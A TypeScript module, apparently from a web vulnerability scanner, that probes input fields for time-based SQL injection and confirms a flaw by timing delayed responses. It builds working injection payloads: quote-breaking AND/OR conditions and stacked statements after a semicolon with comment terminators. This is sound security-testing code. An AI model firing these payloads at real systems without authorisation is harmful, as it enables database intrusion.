import type { Prober, Proof } from '../check.js';
import type { InputPlace } from '../exchange.js';
import { isExplained } from './economy.js';
import { isAtLeast, proofOfDelay } from './prove.js';
import { findsSomething } from './sensitivity.js';
import { quoteHint, seenDialect } from './sql.js';
import { type DelayKind, proveDelay } from './timing.js';

export interface SqlDelay {
  /** As error signatures name it. */
  readonly dialect: string;
  /** Package and image names of the database and its drivers. */
  readonly technology: RegExp;
  /** An expression that takes that many seconds and is harmless otherwise; some databases can wait in statements alone. */
  readonly expression?: (seconds: number) => string;
  /** Statements of their own, behind a semicolon. */
  readonly statement?: ((seconds: number) => string) | undefined;
  readonly kind?: DelayKind;
}

/** Requests of `proveSqlDelay` on a place that shows nothing: baselines, quote pair, and payloads from strength high on. */
export const sqlDelayCost = { low: 4, medium: 4, high: 8, insane: 11 } as const;

/**
 * Delays are dear: they are tried where quotes change the answer, or where more is asked for. A database that is known to be
 * another one is left alone.
 */
export async function proveSqlDelay(
  prober: Prober,
  place: InputPlace,
  delay: SqlDelay,
): Promise<readonly Proof[]> {
  if (isExplained(place) && !isAtLeast(prober, 'high')) return [];
  const hint = await quoteHint(prober, place);
  const dialect = await seenDialect(prober, place);
  if (dialect !== undefined && dialect !== delay.dialect) return [];
  if (!isAtLeast(prober, 'high')) {
    const isThere = hasDatabase(prober, delay.technology);
    if (hint === 'none' || (isThere !== true && dialect === undefined && hint !== 'parity')) return [];
    if (isThere === false && dialect === undefined) return [];
  }
  const finds = isAtLeast(prober, 'high') || (await findsSomething(prober, place));
  const tried = isAtLeast(prober, 'high')
    ? [
        ...quoted(place.value, delay, true),
        ...bare(place.value, delay),
        ...quoted(place.value, { ...delay, statement: undefined }, false),
      ]
    : [...(hint === 'parity' ? [] : bare(place.value, delay)), ...quoted(place.value, delay, finds)];
  for (const payloadFor of tried.slice(0, isAtLeast(prober, 'insane') ? 7 : 4)) {
    const proof = await proveDelay(prober, place, payloadFor);
    if (proof !== undefined) return [proofOfDelay(place, proof)];
  }
  return [];
}

const databases = /mysql|mariadb|postgres|psycopg|mssql|sqlserver|oracle|hsqldb|sqlite/;

/** A database that is known rules the others out. */
function hasDatabase({ technologies }: Prober, pattern: RegExp): boolean | undefined {
  if (technologies.some((name) => pattern.test(name))) return true;
  return technologies.some((name) => databases.test(name)) ? false : undefined;
}

type Payload = (seconds: number) => string;

/** Within quotes. A condition behind `AND` is reached only where the value finds something. */
function quoted(value: string, { expression, statement }: SqlDelay, finds: boolean): readonly Payload[] {
  return [
    ...(statement === undefined ? [] : [(seconds: number) => `${value}';${statement(seconds)}-- `]),
    ...(expression === undefined
      ? []
      : finds
        ? [
            (seconds: number) => `${value}' AND 0<=${expression(seconds)} AND 'a'='a`,
            (seconds: number) => `${value}') AND 0<=${expression(seconds)} AND ('a'='a`,
            (seconds: number) => `${value}" AND 0<=${expression(seconds)} AND "a"="a`,
          ]
        : [(seconds: number) => `q' OR 0<=${expression(seconds)} AND 'a'='a`]),
  ];
}

/** Without quotes, as numbers stand. */
function bare(value: string, { expression, statement }: SqlDelay): readonly Payload[] {
  return [
    ...(statement === undefined ? [] : [(seconds: number) => `${value};${statement(seconds)}-- `]),
    ...(expression === undefined ? [] : [(seconds: number) => `${value} AND 0<=${expression(seconds)}`]),
  ];
}
